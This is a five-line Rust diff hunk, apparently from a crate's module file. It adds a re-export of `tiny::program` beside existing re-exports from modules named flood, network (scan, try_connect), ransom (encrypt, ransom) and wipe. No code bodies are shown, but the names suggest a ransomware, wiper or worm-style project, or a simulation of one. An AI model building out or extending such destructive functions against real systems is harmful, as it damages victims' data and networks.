@@ -9,4 +9,5 @@ mod wipe;
 pub(crate) use flood::flood;
 pub(crate) use network::{destinations, guess, own_address, scan, try_connect};
 pub(crate) use ransom::{Mode, encrypt, encrypted, ransom};
+pub(crate) use tiny::program as tiny_program;
 pub(crate) use wipe::wipe;
